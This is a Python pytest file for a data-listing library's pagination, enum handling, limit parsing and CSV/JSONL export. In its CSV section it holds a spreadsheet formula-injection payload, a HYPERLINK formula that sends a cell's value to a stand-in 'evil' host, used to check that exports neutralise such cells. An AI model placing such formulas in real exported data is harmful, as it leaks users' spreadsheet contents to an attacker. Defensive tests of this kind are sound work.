"""Lists and exports over columns of every kind: enums, long Unicode sort keys, text cells that
a spreadsheet would run, and the page limit as the query string gives it (SQLite and PostgreSQL).
"""

from __future__ import annotations

import csv
import enum
import io
import json
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import JSON, Enum, Numeric, String, TypeDecorator, func, insert, select
from sqlalchemy.orm import DeclarativeBase, Mapped, mapped_column

from charter import A, Actor, Charter
from charter.audit import audit_table
from charter.context import ActionContext
from charter.data.cursors import MAX_CURSOR, MAX_SORT_TEXT
from charter.data.lists import MAX_LIMIT_DIGITS, page_size, parse_limit
from charter.errors import InvalidPage

from ..conftest import AUDIT_KEYS


class Color(enum.Enum):
    """Names differ from values, and sort differently: BLUE < RED, "blue" < "red"."""

    RED = "red"
    BLUE = "blue"


class Tagged(TypeDecorator[str]):
    """Text stored as it is, but not a String column as the export sees it."""

    impl = String(200)
    cache_ok = True


class Base(DeclarativeBase):
    pass


class Tag(Base):
    __tablename__ = "test_value_tags"
    id: Mapped[int] = mapped_column(primary_key=True)
    tenant_id: Mapped[str] = mapped_column(String(64))
    color: Mapped[Color] = mapped_column(Enum(Color, name="test_value_color"))
    name: Mapped[str] = mapped_column(String(256))
    note: Mapped[str | None] = mapped_column(Tagged)
    meta: Mapped[Any] = mapped_column(JSON, nullable=True)
    weight: Mapped[Decimal] = mapped_column(Numeric)


ALICE = Actor.make("alice", "acme", roles={"member"})


def noop(ctx: ActionContext, record: Any, data: Any) -> None:
    return None


@pytest.fixture
def tags(database_url: str, disposing: Any) -> Charter:
    charter = disposing(Charter(database_url=database_url, audit_keys=AUDIT_KEYS))
    Base.metadata.drop_all(charter.engine)
    Base.metadata.create_all(charter.engine)
    charter.resource(Tag, tenant="tenant_id")
    member = A.has_role("member")
    charter.action("tag.list", on=Tag, allow=member, listable=True)(noop)
    charter.action("tag.export", on=Tag, target=None, allow=member, listable=True)(noop)
    rows = [
        {"id": i, "tenant_id": "acme", "color": [Color.RED, Color.BLUE][i % 2],
         "name": f"n{i}", "note": None, "meta": None, "weight": Decimal(i)}
        for i in range(1, 8)
    ]  # fmt: skip
    with charter.engine.begin() as conn:
        conn.execute(insert(Tag.__table__), rows)
    return charter


def walk(charter: Charter, **kw: Any) -> list[Any]:
    page = charter.list_records(ALICE, "tag.list", limit=2, **kw)
    seen = list(page.records)
    while page.next:
        page = charter.list_records(ALICE, "tag.list", limit=2, after=page.next, **kw)
        seen.extend(page.records)
    return seen


def set_row(charter: Charter, id: int, **values: Any) -> None:
    with charter.engine.begin() as conn:
        conn.execute(Tag.__table__.update().where(Tag.__table__.c.id == id).values(**values))


def listed_entries(charter: Charter) -> int:
    with charter.engine.connect() as conn:
        count = select(func.count()).where(audit_table.c.action == "tag.list")
        return conn.scalar(count) or 0


# -- enums ------------------------------------------------------------------------------


@pytest.mark.parametrize("sort", ["color", "-color"])
def test_pages_sorted_by_an_enum_list_every_row_once(tags: Charter, sort: str) -> None:
    seen = walk(tags, sort=sort)
    assert sorted(r.id for r in seen) == list(range(1, 8))
    colors = [r.color for r in seen]
    changes = [i for i in range(1, len(colors)) if colors[i] != colors[i - 1]]
    assert 1 == len(changes)  # in the database's enum order: one run of each member


@pytest.mark.parametrize("value", [Color.RED, "red", "RED"])
def test_an_enum_filter_takes_the_member_its_value_or_its_name(tags: Charter, value: Any) -> None:
    page = tags.list_records(ALICE, "tag.list", limit=10, where={"color": value})
    assert [2, 4, 6] == [r.id for r in page.records]
    assert [6, 4, 2] == [r.id for r in walk(tags, where={"color": value}, sort="-id")]


@pytest.mark.parametrize("value", ["green", "Red", 1, Color])
def test_an_enum_filter_outside_the_enum_is_a_400(tags: Charter, value: Any) -> None:
    with pytest.raises(InvalidPage) as info:
        tags.list_records(ALICE, "tag.list", limit=10, where={"color": value})
    assert "filter.color" == info.value.attrs["parameter"]


@pytest.mark.parametrize("format", ["csv", "jsonl"])
def test_an_enum_column_exports_as_its_value(tags: Charter, format: str) -> None:
    with tags.export(ALICE, "tag.export", format=format, fields=["color"]) as stream:
        body = b"".join(stream).decode()
    if format == "csv":
        assert ["id,color", "1,blue", "2,red"] == body.splitlines()[:3]
    else:
        assert ["blue", "red"] == [json.loads(line)["color"] for line in body.splitlines()[:2]]


# -- CSV cells a spreadsheet would run ------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")'


@pytest.mark.parametrize("column", ["name", "note", "meta"])
@pytest.mark.parametrize("text", [FORMULA, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_csv_cell_written_as_text_never_starts_a_formula(
    tags: Charter, column: str, text: str
) -> None:
    set_row(tags, 1, **{column: text})
    with tags.export(ALICE, "tag.export", format="csv", fields=[column]) as stream:
        body = b"".join(stream).decode()
    cells = [row[1] for row in csv.reader(io.StringIO(body, newline=""))][1:]
    assert "'" + text == cells[0]
    with tags.export(ALICE, "tag.export", format="jsonl", fields=[column]) as stream:
        first = json.loads(b"".join(stream).decode().splitlines()[0])
    assert text == first[column]  # JSON lines carry the value itself


def test_numbers_and_plain_values_are_written_as_they_are(tags: Charter) -> None:
    set_row(tags, 1, note="plain", meta={"a": 1}, weight=Decimal("-2.5"))
    with tags.export(ALICE, "tag.export", format="csv", fields=["note", "weight"]) as stream:
        first = b"".join(stream).decode().splitlines()[1]
    assert first.startswith("1,plain,-2.5")


# -- cursors ------------------------------------------------------------------------------


@pytest.mark.parametrize("char", ["\U0001f600", "\x01", "é", '"', "Ж"])
def test_any_sort_value_of_the_allowed_length_pages_on(tags: Charter, char: str) -> None:
    """The README: any text of at most 256 characters is a sort key."""
    for i in range(1, 8):
        set_row(tags, i, name=char * (MAX_SORT_TEXT - 1) + str(i))
    page = tags.list_records(ALICE, "tag.list", limit=2, sort="-name")
    assert page.next is not None
    assert len(page.next) <= MAX_CURSOR
    assert [7, 6, 5, 4, 3, 2, 1] == [r.id for r in walk(tags, sort="-name")]


@pytest.mark.postgres  # SQLite stores a Numeric as a double: no value has thousands of digits
@pytest.mark.parametrize("database_url", ["postgres"], indirect=True)
def test_a_position_too_long_for_a_cursor_is_a_400_and_no_page_is_audited(tags: Charter) -> None:
    huge = Decimal("9" * 4000)  # an unconstrained numeric: longer than any cursor
    set_row(tags, 1, weight=huge)
    set_row(tags, 2, weight=huge)
    before = listed_entries(tags)
    with pytest.raises(InvalidPage) as info:
        tags.list_records(ALICE, "tag.list", limit=1, sort="-weight")
    assert "sort" == info.value.attrs["parameter"]
    assert before == listed_entries(tags)


# -- the page limit -------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["1", "200", "9999999999", "9" * MAX_LIMIT_DIGITS])
def test_a_limit_of_ascii_digits_is_read_then_clamped(text: str) -> None:
    assert min(int(text), 200) == page_size(parse_limit(text), 200)


@pytest.mark.parametrize("text", ["", "x", "1.5", "-1", "+1", " 1", "1_0", "\u0661", "9" * 19])
def test_a_limit_that_is_not_a_run_of_ascii_digits_is_a_400(text: str) -> None:
    with pytest.raises(InvalidPage) as info:
        parse_limit(text)
    assert "limit" == info.value.attrs["parameter"]


def test_a_zero_limit_is_a_400() -> None:
    with pytest.raises(InvalidPage):
        page_size(parse_limit("0"), 200)
